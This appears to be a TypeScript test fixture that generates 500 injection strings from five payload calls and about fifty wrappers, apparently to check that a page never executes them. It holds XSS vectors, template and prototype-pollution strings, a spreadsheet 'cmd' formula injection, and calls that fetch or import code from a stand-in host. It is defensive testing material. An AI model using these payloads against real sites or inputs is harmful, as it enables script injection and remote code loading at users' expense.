/**
 * Texts that try to run as code, wherever a page might put them: 500 of them, from wrappers around calls that the test
 * would notice.
 */

/** What each tries to do: a mark on the window, a dialog, a request to elsewhere. */
const calls = [
  'window.__hostile=1',
  "globalThis['__hos'+'tile']=1",
  'alert(1)',
  "fetch('http://hostile.invalid/')",
  "import('http://hostile.invalid/x.js')",
];

const wrappers: readonly ((call: string) => string)[] = [
  (call) => `<script>${call}</script>`,
  (call) => `</script><script>${call}</script>`,
  (call) => `<img src=x onerror="${call}">`,
  (call) => `"><img src=x onerror='${call}'>`,
  (call) => `'><svg onload=${call}>`,
  (call) => `<svg><script>${call}</script></svg>`,
  (call) => `<svg><animate onbegin="${call}" attributeName=x dur=1s>`,
  (call) => `<iframe srcdoc="<script>${call}</script>">`,
  (call) => `<iframe src="javascript:${call}">`,
  (call) => `<a href="javascript:${call}" autofocus onfocus="${call}">x</a>`,
  (call) => `<input autofocus onfocus="${call}">`,
  (call) => `<details open ontoggle="${call}">`,
  (call) => `<body onload="${call}">`,
  (call) => `<video><source onerror="${call}"></video>`,
  (call) => `<math href="javascript:${call}">x</math>`,
  (call) => `<object data="javascript:${call}">`,
  (call) => `<style>@import 'http://hostile.invalid/${call}';</style>`,
  (call) => `<link rel=stylesheet href="http://hostile.invalid/?${call}">`,
  (call) => `<base href="http://hostile.invalid/">${call}`,
  (call) => `<meta http-equiv=refresh content="0;url=javascript:${call}">`,
  (call) => `javascript:${call}`,
  (call) => `" onmouseover="${call}" x="`,
  (call) => `' onclick='${call}' '`,
  (call) => `\${${call}}`,
  (call) => `{{constructor.constructor('${call}')()}}`,
  (call) => `\`;${call};//`,
  (call) => `");${call};//`,
  (call) => `*/${call}/*`,
  (call) => `<!--><img src=x onerror=${call}>-->`,
  (call) => `]]><script>${call}</script>`,
  (call) => `&lt;script&gt;${call}&lt;/script&gt;`,
  (call) => `%3Cscript%3E${call}%3C/script%3E`,
  (call) => `\u202e<script>${call}</script>`,
  (call) => `\u0000<script>${call}</script>`,
  (call) => `<scr\u0000ipt>${call}</scr\u0000ipt>`,
  (call) => `<template><script>${call}</script></template>`,
  (call) => `<noscript><p title="</noscript><img src=x onerror=${call}>">`,
  (call) => `<form action="javascript:${call}"><button autofocus>x</button></form>`,
  (call) => `<marquee onstart="${call}">x</marquee>`,
  (call) => `<div style="background:url('javascript:${call}')">`,
  (call) => `<x-foo onclick="${call}" tabindex=1 id=x autofocus onfocus="${call}">`,
  (call) => `data:text/html,<script>${call}</script>`,
  (call) => `__proto__":{"x":"<script>${call}</script>`,
  (call) => `constructor.prototype.${call}`,
  (call) => `=cmd|'/C ${call}'!A0`,
  (call) => `url(#<script>${call}</script>)`,
  (call) => `<foreignObject><body onload="${call}"></foreignObject>`,
  (call) => `<use href="data:image/svg+xml,<svg onload='${call}'/>#x"/>`,
  (call) => `#"><script>${call}</script>`,
  (call) => `?x=<script>${call}</script>&y=1`,
];

/** Plain, and hidden behind a text that looks harmless. */
export const hostileStrings: readonly string[] = calls.flatMap((call) =>
  wrappers.flatMap((wrap) => [wrap(call), `order 17 ${wrap(call)} of today`]),
);
